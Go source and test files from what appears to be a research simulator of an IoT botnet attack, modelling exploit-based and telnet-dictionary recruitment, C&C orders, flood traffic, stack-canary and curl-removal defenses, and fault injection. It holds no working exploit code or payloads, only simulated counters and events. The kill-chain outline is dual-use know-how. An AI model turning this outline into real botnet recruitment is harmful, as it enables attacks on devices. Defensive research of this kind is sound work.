	}
}

func TestBadAttackMethodRejected(t *testing.T) {
	cfg := smallConfig(5)
	cfg.AttackMethod = "greip"
	if err := cfg.Validate(); err == nil {
		t.Fatal("unimplemented method accepted")
	}
	cfg.AttackMethod = ""
	if err := cfg.Validate(); err != nil {
		t.Fatalf("empty method (default) rejected: %v", err)
	}
}
