package core

import (
	"fmt"
	"strings"

	"ddosim/internal/faults"
	"ddosim/internal/metrics"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/resources"
	"ddosim/internal/sim"
)

// Timeline event kinds recorded during a run.
const (
	EventExploitHit   = "exploit-hit"    // daemon hijacked, shell executed
	EventExploitCrash = "exploit-crash"  // daemon crashed (defenses held)
	EventBotJoined    = "bot-registered" // bot completed C&C registration
	EventBotLost      = "bot-lost"       // C&C dropped a bot
	EventAttackOrder  = "attack-order"   // C&C broadcast the command
	EventFloodStart   = "flood-start"    // a bot's first flood packet
	EventChurnOffline = "churn-offline"
	EventChurnOnline  = "churn-online"
	// EventLoaded marks a credential-vector infection: the loader
	// pushed the bot through a brute-forced telnet session.
	EventLoaded = "bot-loaded"
)

// Results collects everything a run measured.
type Results struct {
	// DevsTotal is the configured fleet size.
	DevsTotal int

	// ExploitAttempts counts parses of attacker payloads by Dev
	// daemons; Hijacked of those overwrote a return address;
	// Infected of those executed the infection shell; Crashed of
	// those faulted (defenses held or chain mismatched).
	ExploitAttempts int
	Hijacked        int
	Infected        int
	Crashed         int

	// BotsRegistered is the count of distinct Devs that completed C&C
	// registration at least once; BotsAtCommand is how many received
	// the attack order.
	BotsRegistered int
	BotsAtCommand  int

	// WeakCredDevs (credentials vector only) is how many Devs shipped
	// a dictionary credential — the recruitable population.
	WeakCredDevs int
	// CanaryDevs is how many Devs run stack-protector builds.
	CanaryDevs int

	// AttackIssuedAt is when the C&C broadcast the order; the
	// measurement window for D_received is
	// [issue second, issue second + AttackDuration).
	AttackIssuedAt sim.Time

	// DReceivedKbps is the paper's Eq. 2 average received data rate.
	DReceivedKbps float64
	// PerSecondKbps is the received rate in each window second.
	PerSecondKbps []float64
	// SinkBytes is the total attack volume TServer logged, and
	// DistinctSources the number of bots it observed.
	SinkBytes       uint64
	DistinctSources int

	// Usage is the Table I resource estimate for this run.
	Usage resources.Usage

	// ChurnDepartures/ChurnRejoins count membership flips.
	ChurnDepartures uint64
	ChurnRejoins    uint64

	// NetStats snapshots network-wide counters at the end of the run.
	NetStats netsim.NetworkStats

	// Timeline is the full event log.
	Timeline *metrics.Timeline

	// Faults counts injected faults; nil when the run declared no
	// fault scenario.
	Faults *faults.Stats

	// Obs condenses the run's observability data (trace volume,
	// scheduler load breakdown, wall-clock profile).
	Obs obs.Summary

	// Flows aggregates the NetFlow-style records exported during the
	// run, broken down by ground-truth label.
	Flows obs.FlowStats

	// Phases summarizes kill-chain (and fault) span latencies: one row
	// per phase name with count/min/mean/max durations.
	Phases []obs.PhaseStat
}

// InfectionRate reports the paper's R2 metric: the fraction of
// targeted Devs recruited into the botnet.
func (r *Results) InfectionRate() float64 {
	if r.DevsTotal == 0 {
		return 0
	}
	return float64(r.Infected) / float64(r.DevsTotal)
}

// MeanPhaseSecs reports the mean duration of the named kill-chain
// phase, and whether any span of that phase was recorded.
func (r *Results) MeanPhaseSecs(phase string) (float64, bool) {
	for i := range r.Phases {
		if r.Phases[i].Phase == phase {
			return r.Phases[i].MeanSecs, true
		}
	}
	return 0, false
}

// Summary renders a human-readable report.
func (r *Results) Summary() string {
	var b strings.Builder
	fmt.Fprintf(&b, "devices:            %d\n", r.DevsTotal)
	fmt.Fprintf(&b, "exploit attempts:   %d (hijacked %d, crashed %d)\n", r.ExploitAttempts, r.Hijacked, r.Crashed)
	fmt.Fprintf(&b, "infected:           %d (%.0f%%)\n", r.Infected, 100*r.InfectionRate())
	fmt.Fprintf(&b, "bots registered:    %d\n", r.BotsRegistered)
	fmt.Fprintf(&b, "bots ordered:       %d (at %s)\n", r.BotsAtCommand, r.AttackIssuedAt)
	fmt.Fprintf(&b, "D_received:         %.1f kbps\n", r.DReceivedKbps)
	fmt.Fprintf(&b, "attack volume:      %d bytes from %d sources\n", r.SinkBytes, r.DistinctSources)
	fmt.Fprintf(&b, "churn:              -%d/+%d\n", r.ChurnDepartures, r.ChurnRejoins)
	if r.Faults != nil {
		fmt.Fprintf(&b, "faults injected:    %d (flaps %d, bursts %d, degrades %d, crashes %d+%d cnc, outages %d cnc/%d sink; restarts %d)\n",
			r.Faults.Total(), r.Faults.LinkFlaps, r.Faults.LossBursts, r.Faults.DegradeWindows,
			r.Faults.ProcCrashes, r.Faults.CNCCrashes, r.Faults.CNCOutages, r.Faults.SinkOutages,
			r.Faults.ProcRestarts)
	}
	fmt.Fprintf(&b, "est. pre-attack mem: %.2f GB, attack mem: %.2f GB, attack time: %s\n",
		r.Usage.PreAttackMemGB, r.Usage.AttackMemGB, r.Usage.AttackTimeMMSS())
	fmt.Fprintf(&b, "flows exported:     %d (%d packets, %d bytes)\n",
		r.Flows.Flows, r.Flows.Packets, r.Flows.Bytes)
	for _, ls := range r.Flows.Labels {
		fmt.Fprintf(&b, "  %-20s %d flows, %d packets\n", ls.Label, ls.Flows, ls.Packets)
	}
	if len(r.Phases) > 0 {
		fmt.Fprintf(&b, "kill-chain phases:\n")
		for _, p := range r.Phases {
			fmt.Fprintf(&b, "  %-20s n=%d min=%.3fs mean=%.3fs max=%.3fs\n",
				p.Phase, p.Count, p.MinSecs, p.MeanSecs, p.MaxSecs)
		}
	}
	fmt.Fprintf(&b, "observability:      %d spans, %d trace events, %d kernel events (peak pending %d)\n",
		r.Obs.TraceSpans, r.Obs.TraceEvents, r.Obs.EventsDelivered, r.Obs.PeakPending)
	for _, src := range r.Obs.TopSources {
		fmt.Fprintf(&b, "  %-20s %d\n", src.Source, src.Events)
	}
	return b.String()
}
