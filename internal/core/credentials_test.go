package core

import (
	"testing"

	"ddosim/internal/sim"
)

// credConfig is a credentials-vector configuration sized for tests:
// recruitment through telnet scanning needs more wall-clock than the
// memory-error vector.
func credConfig(devs int) Config {
	cfg := DefaultConfig(devs)
	cfg.Vector = VectorCredentials
	cfg.SimDuration = 600 * sim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 400 * sim.Second
	cfg.ScanPeriod = sim.Second
	return cfg
}

func TestCredentialVectorEndToEnd(t *testing.T) {
	// The Mirai baseline: seed one victim, let bots self-propagate
	// through telnet dictionary attacks, then flood.
	cfg := credConfig(12)
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.WeakCredDevs != 12 {
		t.Fatalf("weak-cred devs = %d/12 at fraction 1.0", r.WeakCredDevs)
	}
	if r.Infected != 12 {
		t.Fatalf("infected = %d/12\nlog:\n%s", r.Infected, r.Timeline)
	}
	if r.BotsRegistered != 12 {
		t.Fatalf("bots registered = %d", r.BotsRegistered)
	}
	if r.DReceivedKbps <= 0 {
		t.Fatal("no attack traffic")
	}
	// Infections arrive through the loader, not the exploit path.
	if r.Timeline.Count(EventLoaded) != 12 {
		t.Fatalf("bot-loaded events = %d", r.Timeline.Count(EventLoaded))
	}
	if r.ExploitAttempts != 0 {
		t.Fatalf("exploit attempts = %d under credentials vector", r.ExploitAttempts)
	}
	if s.Loader() == nil || s.Loader().Loads != 12 {
		t.Fatalf("loader loads = %+v", s.Loader())
	}
	// No memory-error infrastructure ran.
	if s.Attacker().DNS != nil || s.Attacker().DHCP != nil {
		t.Fatal("exploit scripts started despite credentials vector")
	}
}

func TestCredentialVectorSelfPropagates(t *testing.T) {
	// Bot-driven spread: with one seeded victim, later infections
	// must be reported by *bots*, which means more than SeedCount
	// loads despite the seed scanner stopping.
	cfg := credConfig(10)
	cfg.SeedCount = 1
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Infected < 5 {
		t.Fatalf("spread stalled: %d infected", r.Infected)
	}
	// Infection timestamps must be spread out (epidemic growth), not
	// one burst: first and last loads well apart.
	first, _ := r.Timeline.FirstOf(EventLoaded)
	last, _ := r.Timeline.LastOf(EventLoaded)
	if last.At-first.At < 2*sim.Second {
		t.Fatalf("all infections in one burst: %v .. %v", first.At, last.At)
	}
}

func TestStrongCredentialsResistDictionary(t *testing.T) {
	// The legislation scenario the paper cites: vendors ship strong
	// credentials, and the dictionary vector collapses — while the
	// memory-error vector (other tests) is unaffected by credential
	// hygiene. R1's motivation, operationalized.
	cfg := credConfig(10)
	cfg.WeakCredFraction = 0
	cfg.RecruitTimeout = 200 * sim.Second
	cfg.SimDuration = 400 * sim.Second
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.WeakCredDevs != 0 {
		t.Fatalf("weak devs = %d at fraction 0", r.WeakCredDevs)
	}
	if r.Infected != 0 {
		t.Fatalf("infected = %d with strong credentials everywhere", r.Infected)
	}
	if r.SinkBytes != 0 {
		t.Fatal("TServer attacked by an unrecruitable fleet")
	}
}

func TestPartialWeakCredFraction(t *testing.T) {
	// Only the weak-credential share of the fleet is recruitable.
	cfg := credConfig(16)
	cfg.WeakCredFraction = 0.5
	cfg.Seed = 3
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.WeakCredDevs == 0 || r.WeakCredDevs == 16 {
		t.Fatalf("weak devs = %d at fraction 0.5 (degenerate draw)", r.WeakCredDevs)
	}
	if r.Infected != r.WeakCredDevs {
		t.Fatalf("infected %d != weak-cred population %d", r.Infected, r.WeakCredDevs)
	}
}

func TestCredentialConfigValidation(t *testing.T) {
	cfg := credConfig(250)
	if err := cfg.Validate(); err == nil {
		t.Fatal("251+ devs accepted under credentials vector")
	}
	cfg = credConfig(10)
	cfg.WeakCredFraction = 1.5
	if err := cfg.Validate(); err == nil {
		t.Fatal("bad WeakCredFraction accepted")
	}
	cfg = credConfig(10)
	cfg.Vector = RecruitVector(9)
	if err := cfg.Validate(); err == nil {
		t.Fatal("bad vector accepted")
	}
	if VectorMemoryError.String() == "" || VectorCredentials.String() == "" || RecruitVector(9).String() == "" {
		t.Fatal("empty vector names")
	}
}
