package core

import (
	"bytes"
	"encoding/json"
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/obs"
)

// runTraced executes one small seeded run — dynamic churn keeps epoch
// spans and device up/down events in the trace — and returns the
// simulation for observability inspection.
func runTraced(t *testing.T, seed int64) (*Simulation, *Results) {
	t.Helper()
	cfg := smallConfig(10)
	cfg.Seed = seed
	cfg.Churn = churn.Dynamic
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	return s, r
}

func TestTraceDeterminism(t *testing.T) {
	// The determinism contract: two runs with the same seed export
	// byte-identical traces and metrics in every format.
	s1, _ := runTraced(t, 42)
	s2, _ := runTraced(t, 42)

	var chrome1, chrome2 bytes.Buffer
	if err := s1.Obs().Trace.WriteChromeTrace(&chrome1); err != nil {
		t.Fatal(err)
	}
	if err := s2.Obs().Trace.WriteChromeTrace(&chrome2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(chrome1.Bytes(), chrome2.Bytes()) {
		t.Error("same-seed runs exported different Chrome trace bytes")
	}

	var jsonl1, jsonl2 bytes.Buffer
	if err := s1.Obs().Trace.WriteJSONL(&jsonl1); err != nil {
		t.Fatal(err)
	}
	if err := s2.Obs().Trace.WriteJSONL(&jsonl2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(jsonl1.Bytes(), jsonl2.Bytes()) {
		t.Error("same-seed runs exported different JSONL bytes")
	}

	var prom1, prom2 bytes.Buffer
	if err := s1.Obs().Metrics.WritePrometheus(&prom1); err != nil {
		t.Fatal(err)
	}
	if err := s2.Obs().Metrics.WritePrometheus(&prom2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(prom1.Bytes(), prom2.Bytes()) {
		t.Error("same-seed runs dumped different metrics bytes")
	}
}

func TestTraceCoversKillChain(t *testing.T) {
	s, r := runTraced(t, 1)
	tr := s.Obs().Trace

	// Phase spans: deploy -> recruitment -> attack, in that order.
	var phases []string
	for _, sp := range tr.Spans() {
		if sp.Cat == obs.CatPhase {
			phases = append(phases, sp.Name)
		}
	}
	want := []string{"deploy", "recruitment", "attack"}
	if len(phases) != len(want) {
		t.Fatalf("phase spans = %v, want %v", phases, want)
	}
	for i := range want {
		if phases[i] != want[i] {
			t.Fatalf("phase spans = %v, want %v", phases, want)
		}
	}

	// No span may be left open, and the attack span must cover the
	// configured window.
	for _, sp := range tr.Spans() {
		if sp.End < sp.Start {
			t.Errorf("span %s/%s ends before it starts", sp.Cat, sp.Name)
		}
	}

	// At least three distinct event categories with traffic.
	cats := 0
	for _, cat := range []string{obs.CatExploit, obs.CatCNC, obs.CatChurn, obs.CatNet} {
		if tr.CountEvents(cat, "") > 0 {
			cats++
		}
	}
	if cats < 3 {
		t.Errorf("only %d event categories populated, want >= 3", cats)
	}

	// Trace events agree with the measured kill chain.
	if got := tr.CountEvents(obs.CatExploit, "exploit-success"); got != r.Infected {
		t.Errorf("exploit-success events = %d, infected = %d", got, r.Infected)
	}
	if got := tr.CountEvents(obs.CatCNC, "attack-command"); got != 1 {
		t.Errorf("attack-command events = %d, want 1", got)
	}
}

func TestSchedulerAccountingMatchesTrace(t *testing.T) {
	// Every event the scheduler processed must have passed through the
	// profiler hook, and the registry gauge snapshots the same number.
	s, _ := runTraced(t, 3)
	processed := s.sched.Processed()
	if processed == 0 {
		t.Fatal("run processed no events")
	}
	if got := s.Obs().Prof.TotalEvents(); got != processed {
		t.Errorf("profiler saw %d events, scheduler processed %d", got, processed)
	}
	if got := s.Obs().Metrics.GaugeValue("sim_events_processed"); uint64(got) != processed {
		t.Errorf("sim_events_processed gauge = %v, scheduler processed %d", got, processed)
	}
	// The per-source breakdown must account for every delivery.
	var bySource uint64
	for _, n := range s.Obs().Prof.BySource() {
		bySource += n
	}
	if bySource != processed {
		t.Errorf("per-source counts sum to %d, want %d", bySource, processed)
	}
}

func TestMetricsAgreeWithResults(t *testing.T) {
	s, r := runTraced(t, 2)
	reg := s.Obs().Metrics
	checks := []struct {
		name string
		got  uint64
		want uint64
	}{
		{"exploit_attempts_total", reg.CounterValue("exploit_attempts_total"), uint64(r.ExploitAttempts)},
		{"exploit_hijacked_total", reg.CounterValue("exploit_hijacked_total"), uint64(r.Hijacked)},
		{"infections_total", reg.CounterValue("infections_total"), uint64(r.Infected)},
		{"exploit_crashes_total", reg.CounterValue("exploit_crashes_total"), uint64(r.Crashed)},
		{"net_queue_drops_total", reg.CounterValue("net_queue_drops_total"), r.NetStats.Drops},
		{"net_tx_frames_total", reg.CounterValue("net_tx_frames_total"), r.NetStats.TxFrames},
		{"net_tx_bytes_total", reg.CounterValue("net_tx_bytes_total"), r.NetStats.TxBytes},
		{"churn_departures_total", reg.CounterValue("churn_departures_total"), r.ChurnDepartures},
		{"churn_rejoins_total", reg.CounterValue("churn_rejoins_total"), r.ChurnRejoins},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %d, Results says %d", c.name, c.got, c.want)
		}
	}
	if got := reg.GaugeValue("sink_rx_bytes_total"); uint64(got) != r.SinkBytes {
		t.Errorf("sink_rx_bytes_total = %v, Results says %d", got, r.SinkBytes)
	}
	// Queue drops must also appear as individual trace events.
	if drops := s.Obs().Trace.CountEvents(obs.CatNet, "queue-drop"); uint64(drops) != r.NetStats.Drops {
		t.Errorf("queue-drop trace events = %d, NetStats.Drops = %d", drops, r.NetStats.Drops)
	}
}

func TestResultsCarryObsSummary(t *testing.T) {
	s, r := runTraced(t, 5)
	sum := r.Obs
	if sum.TraceSpans == 0 || sum.TraceEvents == 0 {
		t.Errorf("summary empty: %+v", sum)
	}
	if sum.EventsDelivered != s.sched.Processed() {
		t.Errorf("summary delivered %d, scheduler processed %d", sum.EventsDelivered, s.sched.Processed())
	}
	if len(sum.TopSources) == 0 || sum.PeakPending == 0 {
		t.Errorf("summary missing profiler data: %+v", sum)
	}
	// The summary serializes cleanly (report embeds it).
	b, err := json.Marshal(sum)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(b, []byte(`"events_delivered"`)) {
		t.Errorf("summary JSON missing fields: %s", b)
	}
}
