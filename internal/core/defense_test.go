package core

import (
	"strings"
	"testing"
)

// Defense-configuration tests: the per-device countermeasures the
// paper's discussion invites testing inside the framework.

func TestCanaryFractionPartialRecruitment(t *testing.T) {
	cfg := smallConfig(20)
	cfg.CanaryFraction = 0.5
	cfg.Seed = 5
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.CanaryDevs == 0 || r.CanaryDevs == 20 {
		t.Fatalf("canary devs = %d at fraction 0.5 (degenerate draw)", r.CanaryDevs)
	}
	// Exactly the canary-less share is recruited; canary devices
	// crash on the first exploit attempt instead.
	if r.Infected != 20-r.CanaryDevs {
		t.Fatalf("infected %d, want %d (20 - %d canary devs)\nlog:\n%s",
			r.Infected, 20-r.CanaryDevs, r.CanaryDevs, r.Timeline)
	}
	if r.Crashed < r.CanaryDevs {
		t.Fatalf("crashes = %d, want >= %d", r.Crashed, r.CanaryDevs)
	}
	// Crash log mentions stack smashing on some Dev.
	smashed := false
	for _, d := range s.Devs() {
		for _, line := range d.Container().Logs() {
			if strings.Contains(line, "stack smashing detected") {
				smashed = true
			}
		}
	}
	if !smashed {
		t.Fatal("no stack-smashing abort logged")
	}
}

func TestFullCanaryFleetResists(t *testing.T) {
	cfg := smallConfig(8)
	cfg.CanaryFraction = 1.0
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.CanaryDevs != 8 {
		t.Fatalf("canary devs = %d", r.CanaryDevs)
	}
	if r.Infected != 0 || r.SinkBytes != 0 {
		t.Fatalf("canary fleet infected=%d sink=%d", r.Infected, r.SinkBytes)
	}
}

func TestRemoveCurlBlocksInfectionNotHijack(t *testing.T) {
	// The §IV-C insight: without curl the ROP chain still hijacks the
	// daemon (execlp runs), but the infection script cannot download
	// the bot — recruitment fails downstream of exploitation.
	cfg := smallConfig(8)
	cfg.RemoveCurl = true
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Hijacked == 0 {
		t.Fatal("no hijacks; curl removal must not stop the exploit itself")
	}
	if r.Infected != 8 {
		// The hijack executes the shell (counted as Infected at the
		// execlp boundary) ...
		t.Fatalf("shell executions = %d", r.Infected)
	}
	if r.BotsRegistered != 0 {
		t.Fatalf("bots registered = %d despite missing curl", r.BotsRegistered)
	}
	if r.SinkBytes != 0 {
		t.Fatal("attack traffic from bots that could not be downloaded")
	}
	// The failed download is visible in container logs.
	found := false
	for _, d := range s.Devs() {
		for _, line := range d.Container().Logs() {
			if strings.Contains(line, "not found") {
				found = true
			}
		}
	}
	if !found {
		t.Fatal("no 'not found' shell error logged")
	}
}

func TestCanaryValidation(t *testing.T) {
	cfg := smallConfig(5)
	cfg.CanaryFraction = -0.1
	if err := cfg.Validate(); err == nil {
		t.Fatal("negative CanaryFraction accepted")
	}
	cfg.CanaryFraction = 1.1
	if err := cfg.Validate(); err == nil {
		t.Fatal("CanaryFraction > 1 accepted")
	}
}
