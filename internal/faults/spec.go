package faults

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"ddosim/internal/sim"
)

// ParseSpec builds a Config from a compact CLI spec: semicolon-
// separated clauses of the form kind:key=val,key=val. Durations use Go
// syntax (5s, 250ms); rates and factors are floats.
//
//	flap:period=60s,down=5s[,mode=periodic]
//	loss:rate=0.9,burst=5s,gap=30s
//	degrade:period=120s,down=30s,factor=0.25[,qfactor=0.5]
//	crash:period=90s,restart=10s
//	cnc:period=150s,down=20s[,crash=300s][,takedown=30s]
//	sink:period=200s,down=15s
//	intensity=0.6            (the canonical AtIntensity scenario)
func ParseSpec(spec string) (Config, error) {
	var cfg Config
	spec = strings.TrimSpace(spec)
	if spec == "" {
		return cfg, nil
	}
	for _, clause := range strings.Split(spec, ";") {
		clause = strings.TrimSpace(clause)
		if clause == "" {
			continue
		}
		if val, ok := strings.CutPrefix(clause, "intensity="); ok {
			x, err := strconv.ParseFloat(val, 64)
			if err != nil || x < 0 || x > 1 {
				return cfg, fmt.Errorf("faults: bad intensity %q (want [0,1])", val)
			}
			cfg = merge(cfg, AtIntensity(x))
			continue
		}
		kind, rest, ok := strings.Cut(clause, ":")
		if !ok {
			return cfg, fmt.Errorf("faults: clause %q is not kind:key=val,...", clause)
		}
		kv, err := parsePairs(rest)
		if err != nil {
			return cfg, fmt.Errorf("faults: clause %q: %w", clause, err)
		}
		if err := applyClause(&cfg, kind, kv); err != nil {
			return cfg, err
		}
	}
	if err := cfg.Validate(); err != nil {
		return cfg, err
	}
	return cfg, nil
}

func parsePairs(s string) (map[string]string, error) {
	kv := make(map[string]string)
	for _, pair := range strings.Split(s, ",") {
		k, v, ok := strings.Cut(strings.TrimSpace(pair), "=")
		if !ok || k == "" || v == "" {
			return nil, fmt.Errorf("bad key=val pair %q", pair)
		}
		kv[k] = v
	}
	return kv, nil
}

func applyClause(cfg *Config, kind string, kv map[string]string) error {
	dur := func(key string, dst *sim.Time) error {
		v, ok := kv[key]
		if !ok {
			return nil
		}
		delete(kv, key)
		d, err := time.ParseDuration(v)
		if err != nil || d < 0 {
			return fmt.Errorf("faults: %s:%s=%q is not a duration", kind, key, v)
		}
		*dst = sim.FromDuration(d)
		return nil
	}
	num := func(key string, dst *float64) error {
		v, ok := kv[key]
		if !ok {
			return nil
		}
		delete(kv, key)
		f, err := strconv.ParseFloat(v, 64)
		if err != nil {
			return fmt.Errorf("faults: %s:%s=%q is not a number", kind, key, v)
		}
		*dst = f
		return nil
	}
	var err error
	switch kind {
	case "flap":
		if mode, ok := kv["mode"]; ok {
			cfg.FlapMode = mode
			delete(kv, "mode")
		}
		err = firstErr(dur("period", &cfg.FlapPeriod), dur("down", &cfg.FlapDown))
	case "loss":
		err = firstErr(num("rate", &cfg.BurstLoss), dur("burst", &cfg.BurstMean), dur("gap", &cfg.BurstGap))
	case "degrade":
		err = firstErr(dur("period", &cfg.DegradePeriod), dur("down", &cfg.DegradeDown),
			num("factor", &cfg.DegradeFactor), num("qfactor", &cfg.DegradeQueueFactor))
	case "crash":
		err = firstErr(dur("period", &cfg.CrashPeriod), dur("restart", &cfg.RestartDelay))
	case "cnc":
		err = firstErr(dur("period", &cfg.CNCOutagePeriod), dur("down", &cfg.CNCOutageDown),
			dur("crash", &cfg.CNCCrashPeriod), dur("takedown", &cfg.CNCTakedownAfterOrder))
	case "sink":
		err = firstErr(dur("period", &cfg.SinkOutagePeriod), dur("down", &cfg.SinkOutageDown))
	default:
		return fmt.Errorf("faults: unknown fault kind %q (flap|loss|degrade|crash|cnc|sink)", kind)
	}
	if err != nil {
		return err
	}
	for k := range kv {
		return fmt.Errorf("faults: %s: unknown key %q", kind, k)
	}
	return nil
}

func firstErr(errs ...error) error {
	for _, e := range errs {
		if e != nil {
			return e
		}
	}
	return nil
}

// merge overlays non-zero fields of b onto a (intensity clauses compose
// with explicit ones, explicit winning when both set a field).
func merge(a, b Config) Config {
	if a.FlapPeriod == 0 {
		a.FlapPeriod, a.FlapDown, a.FlapMode = b.FlapPeriod, b.FlapDown, b.FlapMode
	}
	if a.BurstLoss == 0 {
		a.BurstLoss, a.BurstMean, a.BurstGap = b.BurstLoss, b.BurstMean, b.BurstGap
	}
	if a.DegradePeriod == 0 {
		a.DegradePeriod, a.DegradeDown = b.DegradePeriod, b.DegradeDown
		a.DegradeFactor, a.DegradeQueueFactor = b.DegradeFactor, b.DegradeQueueFactor
	}
	if a.CrashPeriod == 0 {
		a.CrashPeriod, a.RestartDelay = b.CrashPeriod, b.RestartDelay
	}
	if a.CNCOutagePeriod == 0 {
		a.CNCOutagePeriod, a.CNCOutageDown = b.CNCOutagePeriod, b.CNCOutageDown
	}
	if a.CNCCrashPeriod == 0 {
		a.CNCCrashPeriod = b.CNCCrashPeriod
	}
	if a.CNCTakedownAfterOrder == 0 {
		a.CNCTakedownAfterOrder = b.CNCTakedownAfterOrder
	}
	if a.SinkOutagePeriod == 0 {
		a.SinkOutagePeriod, a.SinkOutageDown = b.SinkOutagePeriod, b.SinkOutageDown
	}
	return a
}

// AtIntensity builds the canonical combined scenario the resilience
// experiment sweeps, scaled by x in [0,1]: higher intensity means more
// frequent flaps, crashes, and C&C outages, and harsher loss bursts
// and degradation windows. x = 0 disables everything. Sink outages are
// deliberately excluded — they corrupt the D_received measurement
// itself rather than stressing the botnet, so they stay an explicit
// opt-in knob.
func AtIntensity(x float64) Config {
	if x <= 0 {
		return Config{}
	}
	if x > 1 {
		x = 1
	}
	secs := func(f float64) sim.Time { return sim.Time(f * float64(sim.Second)) }
	return Config{
		FlapPeriod: secs(60 + (1-x)*240),
		FlapDown:   secs(2 + 8*x),

		BurstLoss: x,
		BurstMean: secs(5 + 10*x),
		BurstGap:  45 * sim.Second,

		DegradePeriod: secs(90 + (1-x)*300),
		DegradeDown:   10 * sim.Second,
		DegradeFactor: 1 - 0.75*x,

		CrashPeriod:  secs(120 + (1-x)*480),
		RestartDelay: 5 * sim.Second,

		CNCOutagePeriod: secs(180 + (1-x)*600),
		CNCOutageDown:   secs(5 + 15*x),
	}
}
