package faults

import (
	"fmt"
	"math/rand"
	"reflect"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

func testLinks(t *testing.T, seed int64, n int) (*sim.Scheduler, []*netsim.NetDevice) {
	t.Helper()
	sched := sim.NewScheduler(seed)
	star := netsim.NewStar(netsim.New(sched))
	devs := make([]*netsim.NetDevice, n)
	for i := range devs {
		h := star.AttachHost(fmt.Sprintf("h%d", i), 500*netsim.Kbps, sim.Millisecond, 0)
		devs[i] = h.DefaultDevice()
	}
	return sched, devs
}

func TestValidateRejectsBadConfigs(t *testing.T) {
	bad := []Config{
		{BurstLoss: 1.5},
		{BurstLoss: -0.1},
		{DegradeFactor: 2},
		{FlapMode: "sometimes"},
		{FlapPeriod: -sim.Second},
		{DegradePeriod: sim.Second, DegradeFactor: 0, DegradeQueueFactor: 0},
	}
	for i, c := range bad {
		if err := c.Validate(); err == nil {
			t.Errorf("config %d accepted: %+v", i, c)
		}
	}
	good := Config{FlapPeriod: sim.Minute, BurstLoss: 1.0}
	if err := good.Validate(); err != nil {
		t.Errorf("good config rejected: %v", err)
	}
	if (Config{}).Enabled() {
		t.Error("zero config enabled")
	}
	if !good.Enabled() {
		t.Error("flap config not enabled")
	}
}

func TestParseSpec(t *testing.T) {
	cfg, err := ParseSpec("flap:period=60s,down=5s,mode=periodic;loss:rate=0.9,burst=5s,gap=30s")
	if err != nil {
		t.Fatal(err)
	}
	want := Config{
		FlapPeriod: sim.Minute, FlapDown: 5 * sim.Second, FlapMode: FlapPeriodic,
		BurstLoss: 0.9, BurstMean: 5 * sim.Second, BurstGap: 30 * sim.Second,
	}
	if cfg != want {
		t.Fatalf("parsed = %+v, want %+v", cfg, want)
	}
	if cfg, err = ParseSpec(""); err != nil || cfg.Enabled() {
		t.Fatalf("empty spec: %+v, %v", cfg, err)
	}
	for _, bad := range []string{
		"flap",                                 // no key=val
		"meteor:period=9s",                     // unknown kind
		"flap:interval=9s",                     // unknown key
		"loss:rate=high",                       // not a number
		"flap:period=-5s",                      // negative duration
		"crash:period=ten",                     // not a duration
		"loss:rate=1.2",                        // fails Validate
		"intensity=2",                          // out of range
		"degrade:period=5s,factor=0,qfactor=0", // fails Validate
	} {
		if _, err := ParseSpec(bad); err == nil {
			t.Errorf("spec %q accepted", bad)
		}
	}
}

func TestParseSpecIntensityMergesUnderExplicitClauses(t *testing.T) {
	cfg, err := ParseSpec("intensity=1;flap:period=10s,down=1s")
	if err != nil {
		t.Fatal(err)
	}
	canon := AtIntensity(1)
	if cfg.FlapPeriod != 10*sim.Second || cfg.FlapDown != sim.Second {
		t.Fatalf("explicit flap clause lost: %+v", cfg)
	}
	if cfg.BurstLoss != canon.BurstLoss || cfg.CrashPeriod != canon.CrashPeriod {
		t.Fatalf("intensity fields lost: %+v", cfg)
	}
	// Order must not matter for precedence: explicit clauses win.
	cfg2, err := ParseSpec("flap:period=10s,down=1s;intensity=1")
	if err != nil {
		t.Fatal(err)
	}
	if cfg2 != cfg {
		t.Fatalf("clause order changed the config: %+v vs %+v", cfg2, cfg)
	}
}

func TestAtIntensityScaling(t *testing.T) {
	if AtIntensity(0) != (Config{}) {
		t.Fatal("intensity 0 not a zero config")
	}
	if AtIntensity(2) != AtIntensity(1) {
		t.Fatal("intensity not clamped to 1")
	}
	lo, hi := AtIntensity(0.25), AtIntensity(1)
	if err := lo.Validate(); err != nil {
		t.Fatal(err)
	}
	if err := hi.Validate(); err != nil {
		t.Fatal(err)
	}
	// Harsher scenario at higher intensity: faults arrive more often
	// and bite harder.
	if hi.FlapPeriod >= lo.FlapPeriod || hi.CrashPeriod >= lo.CrashPeriod ||
		hi.CNCOutagePeriod >= lo.CNCOutagePeriod {
		t.Fatalf("periods not decreasing: lo=%+v hi=%+v", lo, hi)
	}
	if hi.BurstLoss <= lo.BurstLoss || hi.DegradeFactor >= lo.DegradeFactor {
		t.Fatalf("severity not increasing: lo=%+v hi=%+v", lo, hi)
	}
	if hi.SinkOutagePeriod != 0 {
		t.Fatal("canonical scenario must not corrupt the D_received measurement")
	}
